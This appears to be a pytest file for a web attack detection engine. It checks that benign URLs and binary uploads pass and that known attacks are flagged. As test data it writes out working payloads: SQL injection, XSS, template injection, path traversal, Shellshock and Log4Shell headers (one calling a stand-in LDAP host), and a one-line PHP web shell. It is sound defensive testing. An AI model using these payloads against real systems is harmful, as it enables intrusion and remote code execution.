"""The false positives and misses of the first rule pack (issue 15): each pinned for good."""

from __future__ import annotations

import dataclasses
import json
import random

import pytest

from stockade.core.facts import RequestFacts
from stockade.detection import Engine, Request, Settings

ENGINE = Engine()


def request(uri: str, *, method: str = "GET", body: str = "", content_type: str = "", **headers: str) -> Request:
    path, _, query = uri.partition("?")
    pairs = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    if content_type:
        pairs += (("Content-Type", content_type),)
    return Request(
        method=method,
        path=path,
        raw_path=path,
        query=query,
        headers=pairs,
        content_type=content_type,
        body=body.encode(),
    )


@pytest.mark.parametrize(
    "uri",
    [
        "/shop/product.jsp?id=42",  # a real Java web shop: every page is a .jsp
        "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100&cantidad=55",
        "/default.aspx?tabid=12",
        "/remote.php/dav/files/alice/Photos/",  # Nextcloud's WebDAV
        "/wp-content/themes/twentytwentyfour/style.css?ver=1.2",  # a WordPress visitor's assets
        "/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9",
        "/wp-content/uploads/2024/05/photo-1024x768.jpg",
        "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
        "/search?q=PowerShell+tutorial",
        "/search?q=Windows+PowerShell+execution+policy",
        "/search?q=%24%28document%29.ready%28function%28%29%7B%7D%29",  # jQuery's $(document).ready()
        "/docs/jquery?snippet=%24(document).ready(function()%7B%20init()%3B%20%7D)",
        "/produits?q=%c0%ae%c3%a9t%c3%a9",  # EUC-JP / Latin bytes: %c0%ae alone is no traversal
        "/search?q=%C0%AE%B8%A4&enc=euc-jp",
        "/search?q=Javascript:",
        "/search?q=javascript%3A+the+good+parts",
    ],
)
def test_the_false_positives_of_the_first_pack_are_never_flagged(uri: str) -> None:
    verdict = ENGINE.inspect(request(uri))
    assert not verdict.malicious, [hit.rule.id for hit in verdict.hits]


@pytest.mark.parametrize(
    ("uri", "category"),
    [
        ("/items?id=1%20UNION%20ALL%20SELECT%20'x'||'y'--", "sql_injection"),
        ("/items?id=1%20UNION%20ALL%20SELECT%20NULL,CONCAT('x','y'),NULL--", "sql_injection"),
        ("/items?id=1%20ORDER%20BY%2024--", "sql_injection"),
        ("/items?sort=name%20ORDER%20BY%2024", "sql_injection"),
        ("/page?name=%22%20autofocus%20onfocus%3Dalert(1)%20x%3D%22", "xss"),
        ("/page?name=%3Cinput%20onfocus%3Dalert(1)%20autofocus%3E", "xss"),
        ("/hello?name=%7B%7B%20''.__class__.__mro__%5B1%5D.__subclasses__()%20%7D%7D", "other_injection"),
        ("/hello?name={{7*7}}", "other_injection"),
        ("/download?file=..%5C..%5C..%5Cwindows%5Cwin.ini", "path_traversal"),
        ("/download?file=C:%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts", "path_traversal"),
        ("/view?page=../../../../var/log/apache2/access.log", "path_traversal"),
        ("/view?page=/var/log/nginx/error.log", "path_traversal"),
        ("/cgi-bin/shell.pl", "web_shells"),
        ("/cmd.pl", "web_shells"),
        ("/.aws/credentials", "sensitive_files"),
        ("/.config/gcloud/credentials.db", "sensitive_files"),
        ("/backup.tar.gz", "sensitive_files"),
        ("/www.zip", "sensitive_files"),
        ("/site-backup.zip", "sensitive_files"),
    ],
)
def test_the_misses_of_the_first_pack_are_caught(uri: str, category: str) -> None:
    verdict = ENGINE.inspect(request(uri))
    assert verdict.malicious, [hit.rule.id for hit in verdict.hits]
    assert category in verdict.categories


def test_payloads_in_bodies_cookies_and_headers_are_inspected() -> None:
    form = request(
        "/login", method="POST", body="user=admin%27--&pass=x", content_type="application/x-www-form-urlencoded"
    )
    assert ENGINE.inspect(form).malicious
    body = json.dumps({"comment": "<script>alert(document.cookie)</script>"})
    assert ENGINE.inspect(request("/api/comments", method="POST", body=body, content_type="application/json")).malicious
    multipart = "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--b--\r\n"
    assert ENGINE.inspect(
        request("/upload", method="POST", body=multipart, content_type="multipart/form-data; boundary=b")
    ).malicious
    assert ENGINE.inspect(request("/", Cookie="sid=1; pref=..%2F..%2F..%2Fetc%2Fpasswd")).malicious
    assert ENGINE.inspect(request("/", User_Agent="() { :; }; /bin/bash -c 'id'")).malicious
    assert ENGINE.inspect(request("/", Referer="${jndi:ldap://203.0.113.9/a}")).malicious
    assert ENGINE.inspect(request("/", User_Agent="sqlmap/1.7.2#stable (https://sqlmap.org)")).malicious


def test_extra_headers_are_inspected_only_when_named() -> None:
    hostile = request("/", X_Api_Version="1' or '1'='1")
    assert not ENGINE.inspect(hostile).malicious
    assert Engine(Settings(headers=("user-agent", "referer", "x-api-version"))).inspect(hostile).malicious


def test_lookups_and_function_definitions_count_in_any_header() -> None:
    # Log4Shell and Shellshock arrive in whatever header an application logs or exports.
    assert ENGINE.inspect(request("/", X_Api_Version="${jndi:ldap://203.0.113.9/a}")).malicious
    assert ENGINE.inspect(request("/", X_Forwarded_Host="() { :; }; /bin/id")).malicious
    assert not ENGINE.inspect(request("/", Accept="text/html,*/*;q=0.8", X_Requested_With="XMLHttpRequest")).malicious


def test_the_body_beyond_the_limit_is_passed_uninspected_and_counted() -> None:
    body = ("a=" + "x" * 100 + "&") * 10 + "q=1%27%20or%20%271%27%3D%271"
    facts = RequestFacts(
        method="POST", path="/f", headers=[("Content-Type", "application/x-www-form-urlencoded")], body=body.encode()
    )
    small = Engine(Settings(body_limit=500)).inspect_facts(facts)
    assert not small.malicious
    assert small.uninspected == len(body) - 500
    assert Engine().inspect_facts(facts).malicious


def test_script_extensions_is_off_by_default_and_on_at_level_four() -> None:
    assert "script_extensions" not in {rule.id for rule in ENGINE.rules}
    assert "script_extensions" in {rule.id for rule in Engine(Settings(level=4)).rules}


def test_operators_disable_and_rescore_rules() -> None:
    probe = request("/.env")
    assert ENGINE.inspect(probe).malicious
    assert not Engine(Settings(disabled=frozenset({"env_file", "dotfiles", "secret_files"}))).inspect(probe).malicious
    assert not Engine(Settings(scores={"env_file": 1, "dotfiles": 1})).inspect(probe).malicious
    with pytest.raises(ValueError, match="unknown rule 'nope'"):
        Engine(Settings(disabled=frozenset({"nope"})))


def test_profiles_and_known_routes_keep_an_apps_own_paths_from_counting() -> None:
    assert ENGINE.inspect(request("/wp-login.php")).malicious
    assert not Engine(Settings(profiles=("wordpress",))).inspect(request("/wp-login.php")).malicious
    assert not ENGINE.inspect(request("/wp-login.php"), known_route=True).malicious
    # Injections still count on the app's own routes.
    assert ENGINE.inspect(request("/wp-login.php?log=admin%27%20or%20%271%27%3D%271"), known_route=True).malicious


def test_a_body_of_many_suspicious_values_costs_a_bounded_time_and_counts_the_rest() -> None:
    from stockade.detection.engine import MAX_BODY_VALUES  # noqa: PLC0415

    decoys = "&".join(f"f{i}=it%27s+{i}" for i in range(MAX_BODY_VALUES))
    form = request(
        "/form",
        method="POST",
        body=decoys + "&q=1%27+or+%271%27%3D%271",
        content_type="application/x-www-form-urlencoded",
    )
    verdict = ENGINE.inspect(form)
    assert verdict.uninspected == len("q=1' or '1'='1")
    assert not verdict.malicious  # the value beyond the bound passes uninspected, and is counted
    assert ENGINE.inspect(
        request(
            "/form",
            method="POST",
            body="q=1%27+or+%271%27%3D%271&" + decoys,
            content_type="application/x-www-form-urlencoded",
        )
    ).malicious


def binary_files() -> list[bytes]:
    """Stand-ins for uploaded images, documents and archives: their known first bytes, then
    compressed data, which reads as random bytes (seeded: the same files every run)."""
    rng = random.Random(15)
    heads = [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        b"GIF89a",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        b"PK\x03\x04",
        b"\x1f\x8b\x08\x00",
    ]
    return [heads[i % len(heads)] + rng.randbytes(rng.randrange(512, 16384)) for i in range(240)]


@pytest.mark.parametrize("kind", ["multipart", "raw"])
def test_binary_uploads_are_never_flagged(kind: str) -> None:
    # Read as text, about half of such files matched some injection shape by chance (and a
    # NUL byte, which nearly every one holds, the null byte rule): every photo uploaded a strike.
    flagged = []
    for number, data in enumerate(binary_files()):
        content = data
        if kind == "raw":
            upload = request("/api/files", method="PUT", content_type="application/octet-stream")
        else:
            upload = request("/upload", method="POST", content_type="multipart/form-data; boundary=XyZ")
            content = (
                b'--XyZ\r\nContent-Disposition: form-data; name="photo"; filename="p.jpg"\r\n\r\n'
                + data
                + b"\r\n--XyZ--\r\n"
            )
        verdict = ENGINE.inspect(dataclasses.replace(upload, body=content))
        if verdict.malicious:
            flagged.append((number, [hit.rule.id for hit in verdict.hits]))
    assert flagged == []


def test_an_uploaded_text_file_is_still_read_and_its_name_always() -> None:
    shell = (
        b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\n'
        b'<?php system($_GET["c"]); ?>\r\n--XyZ--\r\n'
    )
    upload = request("/upload", method="POST", content_type="multipart/form-data; boundary=XyZ")
    assert "php_injection" in {hit.rule.id for hit in ENGINE.inspect(dataclasses.replace(upload, body=shell)).hits}
    named = (
        b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\n\r\n'
        b"\x89PNG\x00\xff\r\n--XyZ--\r\n"
    )
    assert ENGINE.inspect(dataclasses.replace(upload, body=named)).malicious
    # A query or form value with a NUL is still the null byte trick.
    assert ENGINE.inspect(request("/download?file=report.pdf%00.php")).malicious
